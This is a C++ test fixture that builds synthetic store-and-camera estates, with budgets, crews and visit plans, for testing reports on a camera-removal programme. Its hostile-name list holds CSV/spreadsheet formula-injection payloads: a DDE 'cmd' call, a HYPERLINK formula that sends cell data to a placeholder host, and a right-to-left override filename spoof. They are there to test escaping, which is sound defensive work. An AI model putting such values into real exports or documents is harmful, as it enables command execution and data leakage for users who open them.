// SPDX-FileCopyrightText: The Phaseout contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/core/report/boardestate.h"

#include "core/base/random.h"

using namespace Qt::Literals::StringLiterals;

namespace phaseout::test {
namespace {
// Ids of the tests' own.
template <class T>
Id<T> id(uint kind, int number)
{
    return Id<T>(QUuid(kind + (static_cast<uint>(number) << 4), 0, 0, 0x80, 0, 0, 0, 0, 0, 0, 1));
}

class EstateMaker {
public:
    EstateMaker(BoardCase &made, bool isHostile, quint64 seed)
        : m_case(made)
        , m_isHostile(isHostile)
        , m_random(seed)
    {
    }

    void addStore(int number, int devices)
    {
        static const QStringList regions{u"North"_s, u"South East"_s, u"Wales"_s, QString(), u"London"_s};
        Estate &estate = m_case.estate;
        Store store{id<Store>(1, number), estate.organisations.front().id,
                    *StoreCode::parse(QString::number(number).rightJustified(4, u'0'))};
        store.name = m_isHostile ? hostileNames().at(number % hostileNames().size()) : u"Store %1"_s.arg(number);
        store.region = m_isHostile ? hostileNames().at(number % 4) : regions.at(number % regions.size());
        store.nation = number % 5 == 2 ? Nation::Wales : Nation::England;
        store.format = number % 3 == 0 ? u"Express"_s : u"Superstore"_s;
        if (m_isHostile && number % 7 == 0)
            store.code = *StoreCode::parse(u"=%1"_s.arg(number));
        if (number % 6 == 1)
            store.delivery = {DeliveryState::Ordered, EvidenceLevel::Reported, u"PO 7"_s, m_case.asOf.addDays(-20)};
        const bool isSuspectedOnly = number % 10 == 9;
        for (int i = 0; i < devices; ++i)
            addDevice(store, number, i, isSuspectedOnly);
        addVisit(store, number, devices, isSuspectedOnly);
        estate.stores.push_back(std::move(store));
    }

private:
    void addDevice(const Store &store, int number, int i, bool isSuspected)
    {
        Device device;
        device.id = id<Device>(2, static_cast<int>(m_case.estate.devices.size()) + 1);
        device.store = store.id;
        device.deviceClass = i == 0 ? DeviceClass::Recorder : DeviceClass::Camera;
        device.verdict = isSuspected ? Verdict::Possible : Verdict::Confirmed;
        device.isInScope = !isSuspected;
        device.needsDecision = isSuspected;
        device.firstSeen = i == 3 && number % 8 == 0 ? QDate(2024, 6, 1) : QDate(2022, 6, 1);
        device.lastSeen = QDate(2026, 10, 1);
        device.risk = isSuspected ? 0 : static_cast<int>(m_random.between(20, 90));
        // Every fifth store is done, every seventh half done; some without a date.
        const bool isDone = !isSuspected && (number % 5 == 0 || (number % 7 == 0 && i % 2 == 0));
        if (isDone) {
            const QDate on = number % 15 == 0 ? QDate() : m_case.asOf.addDays(-m_random.between(1, 200));
            device.delivery = {DeliveryState::Removed,
                               number % 2 == 0 ? EvidenceLevel::Verified : EvidenceLevel::Reported, u"ref"_s, on};
            if (number % 20 == 0)
                device.delivery = {DeliveryState::Disposed, EvidenceLevel::Certified, u"cert"_s, on};
            device.risk = 0;
            if (on.isValid())
                device.lastSeen = std::min(device.lastSeen, on.addDays(-1)); // else it would have come back
        }
        m_case.estate.devices.push_back(std::move(device));
    }

    void addVisit(const Store &store, int number, int devices, bool isSurvey)
    {
        if (!m_case.current)
            return;
        if (number % 13 == 0) {
            m_case.current->unvisited.push_back({store.id, u"No crew was free in this region."_s});
            return;
        }
        timetable::Visit visit;
        visit.store = store.id;
        visit.kind = isSurvey ? timetable::VisitKind::Survey : timetable::VisitKind::Removal;
        visit.start = m_case.asOf.addDays(m_random.between(-30, 400));
        visit.finish = visit.start.addDays(2);
        visit.pool = store.region;
        visit.crews = {1, 2};
        visit.halfDays = 3;
        visit.devices = devices;
        visit.cost = Estimate::exactly(Money(45'000, m_case.estate.programme.currency));
        visit.isPinned = number % 11 == 0;
        visit.reason = u"Nothing else could be done earlier in this region; the week before was full."_s;
        m_case.current->visits.push_back(visit);
        if (m_case.baseline && number % 4 != 3) {
            visit.start = visit.start.addDays(-m_random.between(-20, 60));
            visit.finish = visit.start.addDays(1);
            m_case.baseline->visits.push_back(visit);
        }
    }

    BoardCase &m_case;
    bool m_isHostile;
    Random m_random;
};
} // namespace

QStringList hostileNames()
{
    return {u"=cmd|' /C calc'!A0"_s,
            u"+1+1"_s,
            u"@SUM(A1:A9)"_s,
            u"<b>bold</b> & \"quoted\""_s,
            u"-2"_s,
            u"\t=1+1"_s,
            QString(u"right"_s + QChar(0x202E) + u"txt.exe"_s),
            QString(40 * 1024, u'x'),
            u"_x000D_ {=1}"_s,
            QString(QChar(0xD800) + u"half"_s),
            u"0231"_s,
            u"*?~"_s,
            QString(u"bell"_s + QChar(7) + QChar(0xFFFF)),
            u"=HYPERLINK(\"http://x/?\"&A1)"_s,
            u"http://example.org/"_s,
            u">5"_s};
}

BoardCase emptyCase()
{
    BoardCase made;
    made.estate.rates = cost::defaultRates(Currency::pounds());
    made.estate.index();
    return made;
}

BoardCase generatedCase(int stores, int devicesEach, bool isHostile, quint64 seed)
{
    BoardCase made = emptyCase();
    Estate &estate = made.estate;
    estate.programme.name = isHostile ? hostileNames().constFirst() : u"Northbridge camera removal"_s;
    estate.programme.organisation = isHostile ? hostileNames().at(3) : u"Northbridge Stores"_s;
    estate.programme.pledge = u"We buy no more of these cameras and remove those we have."_s;
    estate.programme.pledgeDate = QDate(2023, 3, 18);
    estate.programme.targetDate = QDate(2027, 12, 31);
    estate.organisations.push_back({id<Organisation>(3, 1), u"Northbridge Stores"_s});
    estate.constraints.budgets.push_back({QDate(2026, 4, 1), QDate(2027, 3, 31),
                                          Money(static_cast<std::int64_t>(stores) * 450'000, Currency::pounds())});
    estate.rates.vatRecoverableMillionths = 900'000;
    estate.currentPlan = QByteArray::fromHex("1a2b3c4d5e6f");
    estate.baseline = QByteArray::fromHex("0a0b0c0d0e0f");
    timetable::Timetable plan;
    plan.id = estate.currentPlan;
    plan.constraints.start = QDate(2026, 10, 5);
    plan.constraints.crews = {{u"North"_s, 2, {}}, {QString(), 3, {{QDate(2027, 7, 1), QDate(2027, 8, 31), 1}}}};
    plan.constraints.freezes = {{u"Christmas"_s, QDate(2026, 11, 15), QDate(2027, 1, 4), QString()},
                                {u"Royal Welsh Show"_s, QDate(2027, 7, 12), QDate(2027, 7, 25), u"Wales"_s}};
    made.current = plan;
    made.baseline = plan;
    EstateMaker maker(made, isHostile, seed);
    for (int number = 1; number <= stores; ++number)
        maker.addStore(number, devicesEach);
    // Some devices that nobody has placed, one of them reported removed.
    for (int i = 0; i < std::min(stores, 3); ++i) {
        Device device;
        device.id = id<Device>(2, static_cast<int>(estate.devices.size()) + 1);
        device.deviceClass = DeviceClass::Camera;
        device.isInScope = true;
        device.needsStore = true;
        device.risk = i == 0 ? 0 : 33;
        if (i == 0)
            device.delivery = {DeliveryState::Removed, EvidenceLevel::Verified, u"ref"_s, QDate(2026, 9, 1)};
        estate.devices.push_back(std::move(device));
    }
    estate.index();
    return made;
}

} // namespace phaseout::test
